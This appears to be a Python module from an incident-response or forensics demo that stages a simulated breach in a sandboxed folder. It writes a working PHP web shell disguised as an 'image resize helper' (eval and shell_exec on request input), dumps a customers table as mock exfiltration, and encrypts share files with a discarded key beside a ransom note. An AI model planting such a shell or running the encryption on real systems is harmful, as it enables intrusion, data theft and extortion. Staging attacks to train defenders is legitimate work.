"""The attacker's part of the demo: day events planted into the two weeks of business.

Day 6: a PHP web shell is dropped into the web shop's uploads folder.
Day 9: through it, the attacker dumps the customers table to a CSV next to the shell (exfiltration).
Day 13: ransomware encrypts the office share (every invoice and export becomes ``*.locked``) and
leaves a ransom note with a .onion address and a bitcoin demand.

Everything stays inside the demo's folder; the "encryption" is AES-CTR with a key thrown away.
"""

from __future__ import annotations

import csv
import io
import os
import sqlite3
from datetime import UTC, date, datetime, time
from pathlib import Path

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from aftermath.demo.world import DAYS, World

SHELL_DAY, DUMP_DAY, RANSOM_DAY = 6, 9, 13
SHELL = ("<?php\n// image resize helper\nif (isset($_REQUEST['k']) && md5($_REQUEST['k']) === "
         "'5f4dcc3b5aa765d61d8327deb882cf99') {\n    @eval(base64_decode($_POST['c']));\n    "
         "echo shell_exec($_REQUEST['cmd']);\n}\n?>\n")
NOTE = ("YOUR FILES ARE ENCRYPTED\n\nAll your invoices and exports have been encrypted with military grade "
        "encryption.\nTo get them back, pay 2.5 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh and write to\n"
        "http://riversidepay7x2qzxfbbhmjmcdlqfovqmgmabbh2zlpmufdqdpmgvq4xid.onion with your ID.\n"
        "Do not rename files. Do not contact the police.\n")


def shell_path(world: World) -> Path:
    """Where the web shell lands: an uploads folder that should only hold images."""
    return world.web_root / "uploads" / "resize.php"


def dump_path(world: World) -> Path:
    """Where the attacker left the customers table dump before downloading it."""
    return world.web_root / "uploads" / ".cache" / "c.csv"


def note_path(world: World) -> Path:
    """The ransom note on the share."""
    return world.share / "README-RESTORE-FILES.txt"


def drop_web_shell(world: World, day: date) -> None:
    """Day 6: the web shell."""
    path = shell_path(world)
    path.write_text(SHELL, encoding="utf-8")
    _stamp(path, day)


def dump_customers(world: World, day: date) -> None:
    """Day 9: everything in the customers table, as the attacker's shell would print it."""
    con = sqlite3.connect(f"file:{world.db_path}?mode=ro", uri=True)
    try:
        cur = con.execute("SELECT * FROM customers ORDER BY id")
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow([d[0] for d in cur.description])
        writer.writerows(cur)
    finally:
        con.close()
    path = dump_path(world)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(out.getvalue(), encoding="utf-8")
    _stamp(path, day)
    world.facts["dumped_customers"] = out.getvalue().count("\n") - 1


def encrypt_share(world: World, day: date) -> None:
    """Day 13: every file on the share encrypted and renamed, then the ransom note."""
    key, count = os.urandom(32), 0
    for folder in ("invoices", "exports"):
        for path in sorted((world.share / folder).rglob("*")):
            if not path.is_file():
                continue
            encryptor = Cipher(algorithms.AES(key), modes.CTR(os.urandom(16))).encryptor()
            locked = path.with_name(path.name + ".locked")
            locked.write_bytes(encryptor.update(path.read_bytes()) + encryptor.finalize())
            path.unlink()
            _stamp(locked, day)
            count += 1
    note_path(world).write_text(NOTE, encoding="utf-8")
    _stamp(note_path(world), day)
    world.facts["encrypted_files"] = count


def count_customers(world: World, day: date) -> None:
    """Not the attacker: remember how many customers each night's backup holds (for the story's end)."""
    con = sqlite3.connect(f"file:{world.db_path}?mode=ro", uri=True)
    try:
        count = int(con.execute("SELECT count(*) FROM customers").fetchone()[0])
    finally:
        con.close()
    world.facts.setdefault("customers_by_day", {})[(day - world.start).days] = count


def plant(world: World) -> None:
    """Schedule the attack into the two weeks (and the bookkeeping the story needs)."""
    world.add_event(SHELL_DAY, drop_web_shell)
    world.add_event(DUMP_DAY, dump_customers)
    world.add_event(RANSOM_DAY, encrypt_share)
    for day in range(1, DAYS + 1):
        world.add_event(day, count_customers)


def _stamp(path: Path, day: date) -> None:
    ts = datetime.combine(day, time(3, 17), tzinfo=UTC).timestamp()  # attackers work at night
    os.utime(path, (ts, ts))
